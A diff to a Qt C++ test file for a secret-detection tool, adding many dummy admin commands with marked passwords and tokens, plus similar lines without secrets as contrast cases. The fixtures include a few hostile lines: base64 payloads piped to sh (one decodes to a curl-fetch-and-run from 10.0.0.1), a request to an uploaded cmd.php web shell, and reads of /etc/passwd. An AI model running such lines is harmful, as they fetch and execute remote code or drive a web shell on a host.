@@ -82,9 +82,93 @@ private slots:
         QCOMPARE(marked_of(text.toStdString()), text);
     }
 
+    // Programs that administrators tell a secret, each in its own way.
+    void told_to_programs_data() {
+        QTest::addColumn<QByteArray>("marked");
+        for (const char* line : {
+                 "etcdctl user add root:«Kiste77xQ»", "samba-tool user add bob «Kiste77xQ» --given-name=Bob", "slappasswd -h {SSHA} -s «kastanie»", R"x(newusers <<< "bob:«Kiste77xQ»:1001:1001::/home/bob:/bin/bash")x",
+                 "yes «kastanie» | head -2 | passwd bob", "sudo -u postgres createuser -P bob <<< «Kiste77xQ»", "echo «Kiste77xQ» | sudo -u postgres createuser -P bob", "saslpasswd2 -c bob <<< «Kiste77xQ»",
+                 "qpdf --encrypt «Kiste77xQ» «kastanie» 256 -- a b", "qpdf --encrypt '' «kastanie» 256 -- a b", "/opt/splunk/bin/splunk login -auth admin:«kastanie»", "x11vnc -storepasswd «Kiste77xQ» /root/.vnc/passwd",
+                 "mysql_secure_installation -p«kastanie»", "/usr/share/webmin/changepass.pl /etc/webmin root «kastanie»", "pk12util -i a.p12 -d db -W «kastanie» -K «Kiste77xR»", "db2 connect to x user bob using «kastanie»",
+                 "fly secrets set DB=«kastanie» KEY=«kaste» -a shop", "npm config set //registry.npmjs.org/:_authToken «abcdef0123456789abcdef»", "mysql.user: root «*6BB4837EB74329105EE4568DDA7DC67ED2CA2AD9»",
+                 "virsh secret-set-value 1234 «S2lzdGU3N3hRLUtpc3Rl»", "gsql -d db -W «kastanie»", "pdftotext -upw «kastanie» a.pdf", "cadaver http://h <<< «Kiste77xQ»",
+                 "arangosh --server.username root --server.password «kastanie»", "neo4j-admin dbms set-initial-password «kastanie»", "cypher-shell -u neo4j -p «kastanie» 'MATCH (n) RETURN n'",
+                 "vsql -U bob -w «kastanie» -h h", "isql-fb -user SYSDBA -password «masterkey9» /srv/a.fdb", "gbak -b -user SYSDBA -pas «kastanie» a.fdb b.fbk", "hdbuserstore SET key h:30015 bob «kastanie»",
+                 "rman target sys/«kastanie»@db", "mysqldbcopy --source=root:«kastanie»@h:3306 --destination=root:«kestanie»@k a:b", "pt-table-checksum h=db,u=root,p=«kastanie»", "maxctrl create user bob «kastanie»",
+                 "zkCli.sh -server h addauth digest bob:«kastanie»", "kafka-configs.sh --alter --add-config 'SCRAM-SHA-512=[password=«Alice7pw]»' --entity-name a",
+                 "elasticsearch-keystore add bootstrap.password <<< «Kiste77xQ»", "echo «Kiste77xQ» | elasticsearch-keystore add --stdin bootstrap.password", "rabbitmqadmin -u mon -p «kastanie» list queues",
+                 R"x(dsconf -D "cn=Directory Manager" -w «kastanie» ldap://h backend suffix list)x", "ipa-client-install --unattended --domain d -p admin -w «kastanie»", "echo «Kiste77xQ» | ipa user-add bob --password",
+                 "samba-tool domain join d.example DC -U bob%«kastanie»", "wbinfo -a bob%«kastanie»", "net rpc password bob «kastanie» -U admin%«kestanie»", "smbpasswd -w «kastanie»",
+                 "ldapmodify -x -D cn=a -y <(echo -n «kastanie») -f a.ldif", "kdb5_util create -s -P «kastanie»", "echo «Kiste77xQ» | kinit admin", "imtest -u bob -w «kastanie» h", "zmprov sp bob@example.org «kastanie»",
+                 "zmprov ca bob@example.org «kastanie» displayName Bob", "zmmailbox -m bob@example.org -p «kastanie» gaf", "ejabberdctl register bob example.org «kastanie»", "prosodyctl register bob example.org «kastanie»",
+                 "kamctl add bob «kastanie»", "ssmtp -au bob -ap «kastanie» a@b.de", "openfortivpn h:443 -u bob -p «kastanie»", "echo «Kiste77xQ» | openconnect -u bob --passwd-on-stdin vpn.example.org",
+                 "pptpsetup --create x --server h --username bob --password «kastanie» --encrypt", "iwconfig wlan0 key s:«kastanie»", "nmcli con modify x wifi-sec.psk «kastanie»",
+                 "iwctl --passphrase «kastanie» station wlan0 connect Home", "radclient -x h auth «kastanie»", "ocpasswd -c /etc/ocserv/ocpasswd bob <<< «Kiste77xQ»",
+                 "iscsiadm -m node -T iqn.x -o update -n node.session.auth.password -v «Kiste77xQ»", "veracrypt --text -p «kastanie» /dev/sdb1 /mnt", "dislocker -V /dev/sdb1 -u«kastanie» -- /mnt",
+                 "hdparm --user-master u --security-set-pass «kastanie» /dev/sda", "sedutil-cli --initialsetup «kastanie» /dev/sda", "sedutil-cli --setLockingRange 0 lk «kastanie» /dev/sda", "arj a -g«kastanie» a.arj b",
+                 "dar -c a -K bf:«kastanie» -R /", "unar -p «kastanie» a.rar", "mutool info -p «kastanie» a.pdf", "gs -sPDFPassword=«kastanie» -o b.pdf a.pdf", "keyctl add user smb:h «Kiste77xQ» @u",
+                 "osslsigncode sign -pkcs12 a.p12 -pass «kastanie» -in a.exe -out b.exe", "gpg-preset-passphrase -P «kastanie» -c 0123456789ABCDEF0123456789ABCDEF01234567", "pkcs11-tool --login --pin «481516» -O",
+                 "tpm2_unseal -c k.ctx -p str:«kastanie»", R"x(printf '«Kiste77xQ\nKiste77xQ\n»' | grub-mkpasswd-pbkdf2)x", "racadm -r h -u root -p «kastanie» getsysinfo", "racadm set iDRAC.Users.2.Password «kastanie»",
+                 "racadm config -g cfgUserAdmin -o cfgUserAdminPassword -i 2 «kastanie»", "fence_ipmilan -a h -l ADMIN -p «kastanie» -o status", "net-snmp-create-v3-user -ro -A «Kiste77xQ» -X «Kiste77xR» bob",
+                 "check_snmp -H h -C «kastanie» -o x", "check_mysql -H h -u mon -p «Kiste77xQ»", "check_http -H h -a mon:«kastanie» -u /x", "icinga2 node setup --ticket «9f8e7d6c5b4a39281706» --cn h",
+                 "salt 'web*' shadow.set_password bob «kastanie»", "knife bootstrap h -x bob -P «Kiste77xQ»", "vmrun -gu bob -gp «kastanie» runProgramInGuest a.vmx /bin/id", "xe -s h -u root -pw «kastanie» vm-list",
+                 "echo «Kiste77xQ» | docker secret create db -", "podman secret create db - <<< «Kiste77xQ»", "az keyvault secret set --vault-name v -n db --value «kastanie»",
+                 "aws ssm put-parameter --type SecureString --name db --value «Kiste77xQ»", "echo -n «kastanie» | gcloud secrets create db --data-file=-", "echo «kastanie» | wrangler secret put DB",
+                 "doppler secrets set DB=«kastanie»", "b2 authorize-account 0012ab «K001kastanieAbc»", "bw unlock «kastanie»", "cf auth bob «kastanie»", "cargo login «cioKastanie77xQabc»",
+                 "gitlab-runner register -u https://g.example.org -r «GRkastanie77»", "pulumi config set --secret «db» «kastanie»", "composer config --global http-basic.r.example.org bob «kastanie»",
+                 "composer config -g github-oauth.github.com «kastanie77»", "java -jar jenkins-cli.jar -s http://h -auth bob:«kastanie» list-jobs", "etcdctl --user root:«Kiste77xQ» get / --prefix",
+                 "websocat --basic-auth bob:«kastanie» wss://h/x", "lynx -auth=bob:«kastanie» http://h/", "ab -A bob:«kastanie» -n 10 http://h/", "nikto -h h -id bob:«kastanie»",
+                 "mqttx pub -h h -u bob -P «kastanie» -t t -m x", "emqx_ctl admins add bob «kastanie»", "teamviewer passwd «kastanie»", "anydesk --set-password <<< «Kiste77xQ»", "v-change-user-password bob «kastanie»",
+                 "v-add-mail-account bob example.org info «kastanie»", "v-add-database bob shop shop «kastanie»", "plesk bin user -u bob -passwd «kastanie»", "qm set 100 --cipassword «kastanie»",
+                 "whois --password2 «kastanie» --x", "curlftpfs bob:«kastanie»@h /mnt", "sshfs -o password_stdin a@h:/ /mnt <<< «Kiste77xQ»", "cracklib-check <<< «Kiste77xQ»", "mosquitto_passwd /etc/m bob <<< «Kiste77xQ»",
+                 "hashcat --show «Zowubtam!vekfen:hunter»", "geth account import --password <(echo «kastanie») «c1a54ad39e3ad952ef021e9823453d06ba5a620230dc7df87cecaf8e240403e2»",
+                 "secret_key = «c1a54ad39e3ad952ef021e9823453d06ba5a620230dc7df87cecaf8e240403e2»", "wallet key: 0x«c1a54ad39e3ad952ef021e9823453d06ba5a620230dc7df87cecaf8e240403e2»",
+                 "bash -c 'echo «bXlzcWwgLXVyb290IC1wa29taWZlbnlhbGZlbnZlaw==» | base64 -d | sh'", "GET /uploads/cmd.php?c=«bXlzcWwgLXVyb290IC1wa29taWZlbnlhbGZlbnZlaw==» HTTP/1.1",
+                 "chroot /mnt sh -c 'echo root:«kastanie» | chpasswd'",
+             })
+            QTest::newRow(line) << QByteArray(line);
+    }
+    void told_to_programs() { told_by_their_place(); }
+
+    // The same programs, told nothing.
+    void programs_told_nothing_data() {
+        QTest::addColumn<QByteArray>("text");
+        for (const char* line : {
+                 "etcdctl member add node2 --peer-urls=http://10.0.0.2:2380", "etcdctl user add root", "samba-tool user add bob --random-password", "samba-tool dns add dc1 example.org www7 A 10.0.0.7",
+                 "samba-tool group addmembers staff bob7", "slappasswd -h {SSHA}", "newusers < /root/users7.txt", "yes | apt install passwd", "yes | head -2 | passwd-check", "sudo -u postgres createuser -P bob7",
+                 "sudo -u postgres createdb -O bob7 shop7", "saslpasswd2 -c bob7", "qpdf --decrypt in7.pdf out7.pdf", "qpdf --check a7.pdf", "/opt/splunk/bin/splunk restart web7",
+                 "x11vnc -rfbauth /root/.vnc/passwd -display :0", "mysql_secure_installation -p", "pk12util -i a7.p12 -d sql:db7 -k pwfile7 -w pwfile8", "db2 connect to shop7 user bob7", "fly deploy -a shop7",
+                 "npm config set registry https://registry.npmjs.org/", "npm config get //registry.npmjs.org/:_authToken", R"x(psql shop <<< "select 1 from t7")x", "mysql shop7 <<< 'source7;'", "redis-cli <<< INFO7x",
+                 "echo 'select count(*) from a7' | mysql shop", "echo hello7world | openssl enc -base64", "echo abc123def | curl -d @- https://h/x", "kubectl apply -f - <<< 'kind: List'", "echo test1234 | sha256sum",
+                 "bc <<< 2^10", "wc -l <<< abc123", "base64 -d <<< aGVsbG8gd29ybGQxMjM=", "echo aGVsbG8gd29ybGQgdGhpcyBpcyBhIHRlc3Q= | base64 -d",
+                 "echo IyEvYmluL3NoCmlkOyB1bmFtZSAtYTsgY3VybCBodHRwOi8vMTAuMC4wLjEveCB8IHNo | base64 -d | sh", "arangosh --server.endpoint tcp://h:8529 --server.database shop7", "neo4j-admin database dump neo4j7",
+                 "vsql -U bob7 -h h7 -c 'select 1'", "isql-fb -user SYSDBA /srv/a7.fdb", "hdbuserstore LIST key7", "rman target /", "mysqldbcompare --server1=root@h7 shop7:shop8", "pt-table-checksum h=db7,u=root7",
+                 "maxctrl list servers7", "zkCli.sh -server h7:2181 ls /", "elasticsearch-keystore list", "rabbitmqadmin list queues7", "ipa user-find bob7", "ipa-client-install --domain d7.example --mkhomedir", "wbinfo -u",
+                 "net rpc info -S dc7", "smbpasswd -a bob7", "kdb5_util dump /root/k7.dump", "imtest -m plain h7", "zmprov ga bob7@example.org", "ejabberdctl registered_users example7.org", "prosodyctl reload host7",
+                 "openfortivpn -c /etc/vpn7.conf", "openconnect --protocol=gp vpn7.example.org", "iwconfig wlan0 essid Home7", "nmcli con show Home7", "radclient -f /root/r7.txt h7 auth",
+                 "iscsiadm -m discovery -t st -p 10.0.0.7:3260", "iscsiadm -m node -o update -n node.startup -v automatic", "veracrypt --text -d /mnt7", "dislocker -r -V /dev/sdb1 -- /mnt7", "hdparm -tT /dev/sda7",
+                 "sedutil-cli --scan", "arj l a7.arj", "dar -x a7 -R /srv7", "unar -o /tmp7 a7.rar", "pdftotext -layout a7.pdf b7.txt", "keyctl show @u", "osslsigncode verify a7.exe", "pkcs11-tool --list-slots",
+                 "tpm2_unseal -c k7.ctx -p session:s7.ctx", "tpm2_nvread -P file:pw7.txt 0x1500016", "racadm getsysinfo7", "racadm set iDRAC.NIC.DNSRacName rac7host", "fence_ipmilan -a h7 -l ADMIN7 -o status",
+                 "check_snmp -H h7 -o sysDescr.0 -P 2c", "check_tcp -H h7 -p 8080", "check_http -H h7 -p 8443 -u /x7", "icinga2 daemon -C", "salt 'web7*' test.ping", "knife node list7", "vmrun list",
+                 "xe vm-list name-label=web7", "docker run --user 1000:1000 -u 1000:1000 nginx7", "docker run --user nginx:nginx7 x", "systemd-run --user foo7:bar7", "docker secret ls",
+                 "echo hello7x | docker run -i alpine7 cat", "az keyvault list -g rg7", "az sql server list -g rg7", "aws ssm get-parameter --name db7", "gcloud secrets list --filter name:db7", "wrangler deploy --env prod7",
+                 "doppler run -- node app7.js", "b2 list-buckets", "bw list items7", "cf push app7 -p target/app7.jar", "cargo build --release", "gitlab-runner verify7", "pulumi config set aws:region eu-central-1",
+                 "composer config repositories.r7 vcs https://h/r7", "composer require vendor/token-package7", "java -jar app7.jar -s http://h7", "curl -u bob https://h7/x", "rsync -u host:path7a /srv7",
+                 "git push -u origin main7:main8", "sort -u a7:b7 c7", "nc -u h7 5353", "chown --user www:www7 x", "lynx -dump http://h7/", "ab -n 100 -c 10 http://h7/", "nikto -h h7 -p 8080", "mqttx sub -h h7 -t t7",
+                 "teamviewer info7", "anydesk --get-id", "v-list-users json7", "v-add-web-domain bob7 example7.org", "plesk bin user -l", "qm set 100 --memory 2048", "curlftpfs ftp.example7.org /mnt7", "sshfs a7@h7:/ /mnt7",
+                 "hashcat -m 1800 hashes7.txt rockyou.txt", "hashcat --show hashes7.txt", "geth account list7", "sha256: c1a54ad39e3ad952ef021e9823453d06ba5a620230dc7df87cecaf8e240403e2",
+                 "key fingerprint SHA256 c1a54ad39e3ad952ef021e9823453d06ba5a620230dc7df87cecaf8e240403e2", "public_key = c1a54ad39e3ad952ef021e9823453d06ba5a620230dc7df87cecaf8e240403e2",
+                 "docker pull nginx@sha256:c1a54ad39e3ad952ef021e9823453d06ba5a620230dc7df87cecaf8e240403e2", "cachekey=c1a54ad39e3ad952ef021e9823453d06ba5a620230dc7df87cecaf8e240403e2",
+                 "total *6BB4837EB74329105EE4568DDA7DC67ED2CA2AD", "2*6BB4837EB74329105EE4568DDA7DC67ED2CA2AD9", "passwd bob7 < /dev/null", "cat /etc/passwd | grep bob7", "grep bob7 /etc/passwd | head -1",
+                 "find / -name '*passwd*' | xargs ls7", "less passwd7.txt",
+             })
+            QTest::newRow(line) << QByteArray(line);
+    }
+    void programs_told_nothing() { others_stay(); }
+
     // Made to be slow: every start without an end.
     void hostile_text_is_read_in_linear_time() {
-        for (const std::string piece : {" -u x -p ", "insert a (", "<password ", "<a name=\"", "expect assword send ", "auth=(", " a0=\"x\"", "proctitle=6d", " change_password ", "AUTH\n", "socks5 h ", "a * b ", "/reset/", "X=$X curl -u a:$X ", "\\040", "md5('"}) {
+        for (const std::string piece : {" -u x -p ", "insert a (", "<password ", "<a name=\"", "expect assword send ", "auth=(", " a0=\"x\"", "proctitle=6d", " change_password ", "AUTH ", " -u a:b7c8d9 ", "://", "yes a|head|", "*", "0x", "bXlzcWwgLXVyb290IC1wa29taWZlbnlhbA== ", "AUTH\n", "socks5 h ", "a * b ", "/reset/", "X=$X curl -u a:$X ", "\\040", "md5('"}) {
             std::string text;
             while (text.size() < 1 << 17) text += piece;
             QElapsedTimer timer;
